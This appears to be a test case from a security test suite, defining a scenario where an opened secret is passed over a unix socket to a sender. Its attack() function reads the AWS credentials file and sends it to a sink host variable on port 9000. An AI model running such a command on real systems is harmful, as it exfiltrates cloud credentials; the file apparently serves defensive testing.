# SPDX-License-Identifier: Apache-2.0
TITLE="the opened secret is passed over a unix socket to the sender"
ROW="R16 E20"
attack() { "$PROVOKE/scm" secret "$HOME/.aws/credentials" "$SINK4" 9000; }
